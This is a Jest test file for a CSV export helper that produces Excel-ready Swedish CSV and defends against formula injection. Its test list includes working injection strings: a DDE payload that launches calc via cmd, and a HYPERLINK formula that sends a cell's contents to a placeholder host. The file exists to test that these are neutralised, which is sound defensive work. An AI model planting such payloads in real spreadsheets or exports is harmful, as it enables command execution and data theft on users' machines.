/** CSV that Excel opens right in Swedish, and that runs nothing (OWASP: CSV injection). */
import { csvText } from '../../../../src/kit/text/csv';
import { load } from './csvRead';

const cellOf = (text: string): string => load(csvText([[text]]))[0][0];

test('the mark, semicolons, decimal commas and CRLF; figures stay figures', () => {
  expect(csvText([['Åtgärd', 'Timmar'], ['Ljus', 1234.5], ['Natt', -3], ['Inget', undefined], ['NaN', NaN]]))
    .toBe('\ufeffÅtgärd;Timmar\r\nLjus;1234,5\r\nNatt;-3\r\nInget;\r\nNaN;\r\n');
});

test('what holds a separator, a quote, a line break, a comma or spaces at its ends is quoted and comes back whole', () => {
  const texts = ['a;b', 'säger ”hej" och "då"', 'rad ett\nrad två', 'ett, två', ' mellanslag ', '"'];
  expect(load(csvText([texts]))).toEqual([texts]);
});

test.each([
  '=1+1', '+46', '-rader', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\ufeff=1', '\u200b=1', '\u0000=1', '＝1+1', '＋1', '－1', '＠x', '−1',
  '=HYPERLINK("http://a.example?x="&A1;"klicka")', '=cmd|\' /C calc\'!A0'
])('%j is a text and begins no formula', text => {
  const cell = cellOf(text);
  expect(cell.startsWith("'")).toBe(true);
  // Nothing of what can be read is lost.
  // eslint-disable-next-line no-control-regex
  expect(cell.slice(1)).toBe(text.replace(/\r/g, '\n').replace(/\u0000/g, ''));
});

test('a cell cannot break out of its place: quotes and separators before a formula stay within it', () => {
  const rows = load(csvText([['x";=1+1;"', 'x\r\n=1+1', 'efter'], ['nästa']]));
  expect(rows).toEqual([['x";=1+1;"', 'x\n=1+1', 'efter'], ['nästa']]);
});

test('ordinary texts are left as they are', () => {
  for (const text of ['Ljus vid parken', 'a=b', '2026-05-21', 'e-post@kommun', '100 %', "'citat'", '']) expect(cellOf(text)).toBe(text);
});
